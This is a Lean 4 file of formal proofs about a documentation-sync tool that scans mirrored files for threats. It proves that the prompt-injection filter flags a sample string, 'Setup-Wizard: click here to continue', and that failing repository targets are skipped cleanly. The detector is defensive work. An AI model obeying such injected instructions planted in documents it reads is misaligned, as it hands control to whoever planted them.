theorem claim_C5 (content : String) :
    ((scanForThreats content).filter (fun t => t.type == "prompt-injection")).length ≤
      promptPatterns.length ∧
    promptFindings content.data =
      promptPatterns.filterMap
        (fun p => (firstMatch p content.data).map
          (fun m => Threat.mk "prompt-injection" (String.mk m))) ∧
    scanForThreats "Setup-Wizard: click here to continue" =
      [Threat.mk "prompt-injection" "Setup-Wizard:"] := by
  refine ⟨?_, rfl, by decide⟩
  unfold scanForThreats
  rw [List.filter_append, List.filter_append, List.filter_append]
  have hL : ((splitOnChar '\n' content.data).flatMap lineFindings).filter
      (fun t => t.type == "prompt-injection") = [] := by
    rw [List.filter_eq_nil_iff]
    intro t ht
    obtain ⟨l, _, htl⟩ := List.mem_flatMap.mp ht
    rcases mem_lineFindings_type htl with h1 | h1 | h1 <;> rw [h1] <;> decide
  have hR : (rawIpFindings content.data).filter
      (fun t => t.type == "prompt-injection") = [] := by
    rw [List.filter_eq_nil_iff]
    intro t ht
    rw [mem_rawIpFindings_type ht]
    decide
  have hE : (execUrlFindings content.data).filter
      (fun t => t.type == "prompt-injection") = [] := by
    rw [List.filter_eq_nil_iff]
    intro t ht
    rw [mem_execUrlFindings_type ht]
    decide
  have hP : (promptFindings content.data).filter
      (fun t => t.type == "prompt-injection") = promptFindings content.data := by
    rw [List.filter_eq_self]
    intro t ht
    rw [mem_promptFindings_type ht]
    decide
  rw [hL, hR, hE, hP]
  simp only [List.nil_append, List.append_nil]
  exact List.length_filterMap_le _ _

/-! ### The sync coordinator (C9) -/

/-- A target whose manifest step fails is skipped with the global state
untouched. -/
theorem runTarget_of_manifestFails (env : SyncEnv) (t : RepoTarget) (g : GlobalDisk)
    (h : manifestFails (env.manifestOf t)) :
    ∃ e, runTarget env t g = (g, .error e) := by
  rcases h with ⟨e, he⟩ | ⟨d, hd, htr⟩
  · exact ⟨e, by simp [runTarget, syncTarget, he]⟩
  · refine ⟨"Git tree for " ++ t.owner ++ "/" ++ t.repo ++
      " is truncated. Consider paging.", ?_⟩
    simp [runTarget, syncTarget, hd, htr]

/-- Removing a failing target from the list changes nothing about the
coordinator run. -/
theorem runTargets_skip (env : SyncEnv) (t : RepoTarget)
    (h : manifestFails (env.manifestOf t)) :
    ∀ (ts1 ts2 : List RepoTarget) (g : GlobalDisk),
      runTargets env (ts1 ++ t :: ts2) g = runTargets env (ts1 ++ ts2) g := by
  intro ts1
  induction ts1 with
  | nil =>
    intro ts2 g
    obtain ⟨e, he⟩ := runTarget_of_manifestFails env t g h
    simp [runTargets, he]
  | cons t1 ts1 ih =>
    intro ts2 g
    simp only [List.cons_append, runTargets, List.append_eq]
    rw [ih ts2]

/-- C9: when one target's sync fails (here: its manifest fetch failed or
was truncated), the coordinator still runs every remaining target — the
whole run is identical to the run without the failing target — and the
flagged files collected from the successful targets are handed to the
reporter exactly once. -/
theorem claim_C9 (env : SyncEnv) (now : String) (prev : Option String)
    (g : GlobalDisk) (t : RepoTarget) (ts1 ts2 : List RepoTarget)
    (h : manifestFails (env.manifestOf t)) :
    runTargets env (ts1 ++ t :: ts2) g = runTargets env (ts1 ++ ts2) g ∧
    mainRun env now (ts1 ++ t :: ts2) g prev = mainRun env now (ts1 ++ ts2) g prev ∧
    (mainRun env now (ts1 ++ t :: ts2) g prev).2 =
      logThreats now (runTargets env (ts1 ++ t :: ts2) g).2 prev := by
  refine ⟨runTargets_skip env t h ts1 ts2 g, ?_, rfl⟩
  simp [mainRun, runTargets_skip env t h ts1 ts2 g]

/-- Witness for C9: a concrete two-target run where the first target's
manifest is truncated mirrors the second target exactly as the run
without the broken target would. -/
theorem claim_C9_witness :
    runTargets
      (SyncEnv.mk
        (fun t => if t.name == "bad" then .ok (TreeResponse.mk [] true)
          else .ok (TreeResponse.mk [TreeEntry.mk "docs/a.md" "blob"] false))
        (fun _ => .ok "hello"))
      ([] ++ RepoTarget.mk "bad" "o" "r" "main" "docs" "dbad" ::
        [RepoTarget.mk "good" "o" "r2" "main" "docs" "dgood"]) [] =
    runTargets
      (SyncEnv.mk
        (fun t => if t.name == "bad" then .ok (TreeResponse.mk [] true)
          else .ok (TreeResponse.mk [TreeEntry.mk "docs/a.md" "blob"] false))
        (fun _ => .ok "hello"))
      ([] ++ [RepoTarget.mk "good" "o" "r2" "main" "docs" "dgood"]) [] :=
  (claim_C9
    (SyncEnv.mk
      (fun t => if t.name == "bad" then .ok (TreeResponse.mk [] true)
        else .ok (TreeResponse.mk [TreeEntry.mk "docs/a.md" "blob"] false))
      (fun _ => .ok "hello"))
    "2026-01-01" none []
    (RepoTarget.mk "bad" "o" "r" "main" "docs" "dbad") []
    [RepoTarget.mk "good" "o" "r2" "main" "docs" "dgood"]
    (Or.inr ⟨TreeResponse.mk [] true, rfl, rfl⟩)).1

end DocsSync
